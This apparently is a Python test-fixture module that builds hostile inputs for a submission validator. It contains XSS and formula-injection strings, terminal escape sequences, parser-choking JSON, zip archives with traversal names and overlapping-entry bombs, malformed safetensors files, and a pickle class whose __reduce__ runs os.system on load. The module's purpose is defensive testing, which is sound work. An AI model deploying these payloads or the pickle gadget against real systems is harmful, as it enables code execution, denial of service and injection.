"""Attack material, made rather than kept: archives that lie, tensors that lie, JSON that hurts, texts that run."""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

# Texts -----------------------------------------------------------------------------------------------------------

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "<style>@import 'https://attacker.invalid/x.css'</style>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "]]><!--<iframe srcdoc='<script>alert(1)</script>'>",
)
LINKS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " https://example.org",
    "https://example.org\n<script>",
    "https://example.org/ javascript:alert(1)",
    "https://user:word@example.org",
    "http://example.org",
    "//example.org",
    "https:/example.org",
    "https://example.org/\u202egro.elpmaxe",
    "https://example.org/x\n",
)
TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H\x1b[31mFAILED",
    "\x1b]8;;https://attacker.invalid\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "\x9d0;owned\x9c",
    "fine\rerror: fine",
    "fine\x08\x08\x08\x08evil",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069\u200e\u200f",
    "\u2028line\u2029paragraph\x85next\x0bline\x0cpage",
    "\x00nul\x7fdel",
)
FORMULAS = ("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", " =1", "\xa0=1", "x\n=1", "＝1")  # noqa: RUF001
_RANGES = ((0, 0x20), (0x7F, 0xA0), (0x2028, 0x202F), (0x2066, 0x206A))
UNSAFE = {chr(code) for begin, end in _RANGES for code in range(begin, end)} - {"\n"}
"""Characters that may not reach a terminal."""


def raw_controls(output: str) -> set[str]:
    """Characters of an output that could move a cursor, change a title or turn text around."""
    return UNSAFE & set(output)


# JSON ------------------------------------------------------------------------------------------------------------

DEEP = 10**5
WIDE = 10**6


def hurtful_json() -> dict[str, bytes]:
    """Documents that a careless parser chokes on, by what is wrong with them."""
    return {
        "nan": b'{"a": NaN}',
        "infinity": b'{"a": -Infinity}',
        "a number beyond floats": b'{"a": 1e400}',
        "an integer of 5000 digits": b'{"a": ' + b"9" * 5000 + b"}",
        "an integer of 4000 digits": b'{"$schema": ' + b"9" * 4000 + b"}",
        "a key twice": b'{"name": "a", "name": "b"}',
        "a key twice, once escaped": b'{"name": "a", "n\\u0061me": "b"}',
        "deep lists": b"[" * DEEP + b"]" * DEEP,
        "deep objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
        "deep and open": b"[" * DEEP,
        "a million keys": b"{" + b",".join(b'"%d":0' % i for i in range(WIDE)) + b"}",
        "a million keys, one twice": b"{" + b",".join(b'"%d":0' % i for i in range(WIDE)) + b',"7":0}',
        "a million keys, all twice": b"{" + b",".join(b'"%d":0' % (i // 2) for i in range(WIDE)) + b"}",
        "a million elements": b'{"runs": [' + b",".join([b"0"] * WIDE) + b"]}",
        "a key of a megabyte": b'{"' + b"k" * 2**20 + b'": 0}',
        "a string of a megabyte": b'{"kind": "' + b"k" * 2**20 + b'"}',
        "a lone surrogate": b'{"name": "\\ud800"}',
        "a lone surrogate in a key": b'{"\\udfff": 1}',
        "a surrogate in bytes": b'{"name": "\xed\xa0\x80"}',
        "latin-1": b'{"name": "\xe9"}',
        "utf-16": '{"name": "a"}'.encode("utf-16"),
        "a mark of byte order": b'\xef\xbb\xbf{"name": "a"}',
        "a comment": b'{"name": "a"} // fine',
        "two documents": b"{}{}",
        "a trailing comma": b'{"name": "a",}',
        "nothing": b"",
        "nul": b"\x00",
        "a number": b"7",
        "null": b"null",
        "a list": b"[]",
        "a string": b'"submission"',
    }


# Archives --------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Member:
    """One entry of an archive, free to lie; ``size``, ``crc`` and ``packed_size`` default to the truth."""

    name: bytes
    content: bytes = b""
    method: int = zipfile.ZIP_DEFLATED
    size: int | None = None
    crc: int | None = None
    flags: int = 0
    mode: int = stat.S_IFREG | 0o644
    local_name: bytes | None = None
    offset: int | None = None
    packed: bytes | None = None


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def archive(members: Iterable[Member]) -> bytes:
    """A zip archive, byte by byte: what a library would refuse to write is the point."""
    body, directory, count = bytearray(), bytearray(), 0
    for member in members:
        packed = member.packed
        if packed is None:
            packed = deflated(member.content) if member.method == zipfile.ZIP_DEFLATED else member.content
        size = len(member.content) if member.size is None else member.size
        crc = zlib.crc32(member.content) if member.crc is None else member.crc
        place = len(body) if member.offset is None else member.offset
        if member.offset is None:
            body += _local(member.local_name or member.name, member, crc, len(packed), size) + packed
        head = struct.pack("<HHHHHHIII", 0x0314, 20, member.flags, member.method, 0, 33, crc, len(packed), size)
        tail = struct.pack("<HHHHHII", len(member.name), 0, 0, 0, 0, (member.mode << 16) & 0xFFFFFFFF, place)
        directory += b"PK\x01\x02" + head + tail + member.name
        count += 1
    end = struct.pack("<HHHHIIH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(body), 0)
    return bytes(body) + bytes(directory) + b"PK\x05\x06" + end


def _local(name: bytes, member: Member, crc: int, packed: int, size: int) -> bytes:
    head = struct.pack("<HHHHHIII", 20, member.flags, member.method, 0, 33, crc, packed, size)
    return b"PK\x03\x04" + head + struct.pack("<HH", len(name), 0) + name


def members_of(folder: Path) -> list[Member]:
    """The files of an honest submission as members."""
    files = [path for path in sorted(folder.rglob("*")) if path.is_file()]
    return [Member(path.relative_to(folder).as_posix().encode(), path.read_bytes()) for path in files]


def zipped(folder: Path) -> bytes:
    """An honest zip of a folder."""
    return archive(members_of(folder))


def overlapping(names: Sequence[str], size: int) -> bytes:
    """Many entries of one local header: each inflates the same bytes again."""
    content = bytes(size)
    first = Member(names[0].encode(), content)
    packed = deflated(content)
    again = [Member(n.encode(), content, offset=0, packed=packed, local_name=names[0].encode()) for n in names[1:]]
    return archive([first, *again])


def quoted_overlap(names: Sequence[str], size: int) -> bytes:
    """Each entry quotes the header of the next in a stored block and then is the next (Fifield, 2019)."""
    content, packed = bytes(size), deflated(bytes(size))
    made: list[tuple[bytes, bytes, int, int, int]] = []
    for name in reversed(names):
        crc = zlib.crc32(content)
        header = _local(name.encode(), Member(b""), crc, len(packed), len(content))
        made.append((name.encode(), header, crc, len(packed), len(content)))
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        packed, content = quote + packed, header + content
    # The outermost quote is no entry's own: drop its five bytes, and the rest is the first local header and its data.
    body, directory, place = packed[5:], bytearray(), 0
    for name, header, crc, packed_size, inflated in reversed(made):
        head = struct.pack("<HHHHHHIII", 0x0314, 20, 0, zipfile.ZIP_DEFLATED, 0, 33, crc, packed_size, inflated)
        tail = struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, place)
        directory += b"PK\x01\x02" + head + tail + name
        place += len(header) + 5
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(directory), len(body), 0)
    return body + bytes(directory) + b"PK\x05\x06" + end


def many_members(count: int) -> bytes:
    """An archive of very many empty records; beyond 65,535 it needs the large form of the directory."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        for number in range(count):
            opened.writestr(zipfile.ZipInfo(f"records/r{number}.json"), b"")
    return stream.getvalue()


BAD_NAMES = {
    "a path upwards": b"../evil.json",
    "a path upwards within": b"records/../../evil.json",
    "an absolute path": b"/tmp/evil.json",
    "a drive": b"C:\\evil.json",
    "a network share": b"\\\\host\\share\\evil.json",
    "backslashes": b"records\\evil.json",
    "backslashes upwards": b"records\\..\\..\\evil.json",
    "nul": b"records/evil.json\x00.txt",
    "an escape": b"records/\x1b]0;owned\x07.json",
    "a new line": b"records/evil\n.json",
    "a new line at the end": b"submission.json\n",
    "a dot": b"./submission.json",
    "an empty part": b"records//evil.json",
    "a hidden file": b".git/hooks/post-checkout",
    "turned text": "records/\u202enosj.exe.json".encode(),
    "composed": "records/\u00e9.json".encode(),
    "decomposed": "records/e\u0301.json".encode(),
    "a dotless name": b"records/.json",
    "another kind of file": b"records/evil.pkl",
    "an archive within": b"records/evil.zip",
    "a numpy archive": b"predictions/evil.npz",
    "a program": b"setup.py",
    "a verification": b"verification.json",
    "capitals": b"Submission.json",
    "a digest in capitals": b"predictions/" + b"A" * 64 + b".safetensors",
    "a short digest": b"predictions/" + b"a" * 63 + b".safetensors",
    "a name of ten thousand letters": b"records/" + b"a" * 10_000 + b".json",
    "nothing": b"",
}

# Tensors ---------------------------------------------------------------------------------------------------------


def tensors(header: Mapping[str, Any] | bytes, body: bytes = b"", length: int | None = None) -> bytes:
    """A safetensors file whose header says what it likes, and is as long as it likes."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + body


def tensor(shape: Sequence[Any], start: int, end: int, dtype: str = "F16") -> dict[str, Any]:
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [start, end]}


class Payload:
    """Pickled, it runs a command when it is loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))


def pickles(canary: Path) -> dict[str, bytes]:
    """Files of several formats that touch ``canary`` when a library unpickles them."""
    import numpy as np
    import torch

    bomb = Payload(f"touch {canary}")
    packed, old, array, arrays = io.BytesIO(), io.BytesIO(), io.BytesIO(), io.BytesIO()
    torch.save({"weight": bomb}, packed)
    torch.save({"weight": bomb}, old, _use_new_zipfile_serialization=False)
    np.save(array, np.array([bomb], dtype=object), allow_pickle=True)
    np.savez(arrays, forget=np.array([bomb], dtype=object))
    return {
        "a pickle": pickle.dumps(bomb),
        "a pickle of protocol 0": pickle.dumps(bomb, protocol=0),
        "a torch file": packed.getvalue(),
        "an old torch file": old.getvalue(),
        "an array of objects": array.getvalue(),
        "arrays of objects": arrays.getvalue(),
        "a header that is a pickle": tensors(pickle.dumps(bomb)),
    }


def lying_tensors() -> dict[str, bytes]:
    """Safetensors files that are wrong in themselves, whatever they should hold."""
    two = {"forget": tensor([2], 0, 4), "retain": tensor([2], 4, 8)}
    return {
        "an empty file": b"",
        "seven bytes": b"\x00" * 7,
        "a header of no length": tensors(b""),
        "a header of 2**63 bytes": tensors(two, bytes(8), length=2**63),
        "a header of 2**64-1 bytes": tensors(two, bytes(8), length=2**64 - 1),
        "a header longer than the file": tensors(two, bytes(8), length=4096),
        "a header of 100 MB": tensors(b'{"a":"' + b" " * 100_000_000 + b'"}'),
        "a header that is no JSON": tensors(b"{forget}"),
        "a header that is a list": tensors(b"[]"),
        "a header nested deeply": tensors(b'{"a":' * DEEP + b"1" + b"}" * DEEP),
        "a header with NaN": tensors(b'{"forget": {"dtype": "F16", "shape": [NaN], "data_offsets": [0, 4]}}', bytes(4)),
        "a name twice": tensors(
            b'{"forget":%s,"forget":%s}' % ((json.dumps(tensor([2], 0, 4)).encode(),) * 2), bytes(4)
        ),
        "100,000 tensors": tensors({f"t{i}": tensor([1], 2 * i, 2 * i + 2) for i in range(10**5)}, bytes(2 * 10**5)),
        "100,000 empty tensors": tensors({f"t{i}": tensor([0], 0, 0) for i in range(10**5)}),
        "offsets that overlap": tensors({"forget": tensor([2], 0, 4), "retain": tensor([2], 2, 6)}, bytes(6)),
        "offsets that are the same": tensors({"forget": tensor([2], 0, 4), "retain": tensor([2], 0, 4)}, bytes(4)),
        "a gap between tensors": tensors({"forget": tensor([2], 0, 4), "retain": tensor([2], 8, 12)}, bytes(12)),
        "bytes behind the last tensor": tensors(two, bytes(9)),
        "a tensor beyond the end": tensors(two, bytes(6)),
        "offsets in reverse": tensors({"forget": tensor([2], 4, 0)}, bytes(4)),
        "negative offsets": tensors({"forget": tensor([2], -4, 0)}, bytes(4)),
        "offsets that are no integers": tensors({"forget": tensor([2], 0.0, 4.0)}, bytes(4)),  # type: ignore[arg-type]
        "offsets that are true": tensors({"forget": tensor([2], False, 4)}, bytes(4)),
        "offsets of 1000 digits": tensors({"forget": tensor([2], 0, 10**1000)}, bytes(4)),
        "a shape of another size": tensors({"forget": tensor([3], 0, 4)}, bytes(4)),
        "a shape that overflows": tensors({"forget": tensor([2**32, 2**32], 0, 0)}),
        "a shape that overflows to the right size": tensors({"forget": tensor([2**63, 2, 2], 0, 0)}),
        "a shape of petabytes times nothing": tensors({"forget": tensor([2**50, 0], 0, 0)}),
        "a negative shape": tensors({"forget": tensor([-1, -2], 0, 4)}, bytes(4)),
        "a shape of 10,000 dimensions": tensors({"forget": tensor([1] * 10_000, 0, 2)}, bytes(2)),
        "a shape that is no list": tensors(
            {"forget": {"dtype": "F16", "shape": "2", "data_offsets": [0, 4]}}, bytes(4)
        ),
        "an unknown type": tensors({"forget": tensor([4], 0, 4, "X8")}, bytes(4)),
        "a type that is no text": tensors(
            {"forget": {"dtype": ["F16"], "shape": [2], "data_offsets": [0, 4]}}, bytes(4)
        ),
        "a field that is missing": tensors({"forget": {"dtype": "F16", "shape": [2]}}, bytes(4)),
        "a field too many": tensors({"forget": {**tensor([2], 0, 4), "code": "import os"}}, bytes(4)),
        "metadata that is no text": tensors({"__metadata__": {"a": {"b": 1}}, **two}, bytes(8)),
        "a lone surrogate": tensors(b'{"\\ud800": {"dtype": "F16", "shape": [2], "data_offsets": [0, 4]}}', bytes(4)),
        "a name of escapes": tensors({"\x1b]0;owned\x07": tensor([2], 0, 4)}, bytes(4)),
    }
